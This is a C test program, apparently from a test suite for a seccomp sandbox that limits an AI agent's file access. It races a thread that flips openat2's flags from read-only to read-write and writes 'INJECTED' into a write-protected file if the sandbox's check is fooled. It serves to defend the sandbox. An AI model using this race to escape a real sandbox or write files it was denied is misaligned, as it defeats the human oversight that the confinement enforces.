/*
 * attack_openat2_race - flip openat2's struct open_how between a read and
 * a write while calling it on a file the policy lets the agent read but
 * not write (the driver: deny write guarded/x).
 *
 * openat2 passes its flags in memory (struct open_how), not in a register.
 * If ward read how.flags, saw O_RDONLY, allowed the read and let the
 * kernel run the call (SECCOMP_USER_NOTIF_FLAG_CONTINUE), the kernel would
 * read the struct again - and may find O_RDWR there by then.  DESIGN.md §2
 * invariant 2: never CONTINUE when the decision depended on the agent's
 * memory.  (The secret's O_PATH and O_RDONLY would not race: both are
 * judged as a read, refused alike before any path is looked at.)
 *
 * A thread flips how.flags (one aligned 8-byte store) for race_seconds(),
 * counting its flips; the main thread calls openat2 and looks at the fd it
 * gets.  An fd that may write guarded/x is a LEAK (written through, to
 * show it).  A try is in the window when the flags changed while the call
 * was in the kernel; none so, or only one kind of answer (every call
 * allowed as a read, or every one refused as a write), is a race never run.
 */
#include "attack.h"

#include <linux/openat2.h>
#include <pthread.h>

#define TARGET "guarded/x"

static struct open_how how __attribute__((aligned(64)));
static volatile int stop;
static unsigned long flips;

static void *flipper(void *arg)
{
	(void)arg;
	while (!stop) {
		__atomic_store_n(&how.flags, (uint64_t)(O_RDONLY | O_CLOEXEC), __ATOMIC_RELAXED);
		for (volatile int i = 0; i < 20; i++)
			;
		__atomic_store_n(&how.flags, (uint64_t)(O_RDWR | O_CLOEXEC), __ATOMIC_RELAXED);
		__atomic_add_fetch(&flips, 1, __ATOMIC_RELAXED);
		for (volatile int i = 0; i < 20; i++)
			;
	}
	return NULL;
}

int main(void)
{
	unsigned long calls = 0, reads = 0, denied = 0, other = 0, windows = 0;
	int other_errno = 0;
	pthread_t t;

	int c = open(TARGET, O_RDONLY | O_CLOEXEC);
	control_check(c >= 0, "%s opens for reading", TARGET);
	close(c);
	how.flags = O_RDONLY | O_CLOEXEC;
	if (pthread_create(&t, NULL, flipper, NULL) != 0)
		setup_failed("pthread_create");
	double end = now() + race_seconds();
	while (now() < end && !att_through) {
		unsigned long before = __atomic_load_n(&flips, __ATOMIC_RELAXED);
		int fd = (int)syscall(SYS_openat2, AT_FDCWD, TARGET, &how, sizeof(how));
		int e = errno;
		calls++;
		if (__atomic_load_n(&flips, __ATOMIC_RELAXED) != before)
			windows++;
		if (fd < 0) {
			if (e == EACCES) {
				denied++;
			} else {
				other++;
				other_errno = e;
			}
			continue;
		}
		int fl = fcntl(fd, F_GETFL);
		if (fl >= 0 && (fl & O_ACCMODE) != O_RDONLY) {
			if (pwrite(fd, "INJECTED\n", 9, 0) == 9)
				leak("openat2 with how.flags flipped to O_RDWR wrote the write-protected file",
				     "INJECTED", 8);
			else
				leak("openat2 with how.flags flipped to O_RDWR gave a writable fd", "O_RDWR", 6);
		} else {
			reads++;
		}
		close(fd);
	}
	stop = 1;
	pthread_join(t, NULL);
	say("note: %lu calls: %lu read-only fds, %lu refused, %lu other errors (last: %s)", calls,
	    reads, denied, other, other ? strerror(other_errno) : "none");
	/* A stray error among thousands of tries does not undo the race (see
	 * attack_race_path.c); more than one in a hundred is a setup gone wrong. */
	if (!att_through && (reads == 0 || denied == 0 || other * 100 > calls))
		missed("the race was one-sided or went wrong: %lu reads, %lu refused, %lu other errors (last: %s)",
		       reads, denied, other, other ? strerror(other_errno) : "none");
	race_done("open_how.flags flipped between O_RDONLY and O_RDWR", calls, windows);
	return finish();
}
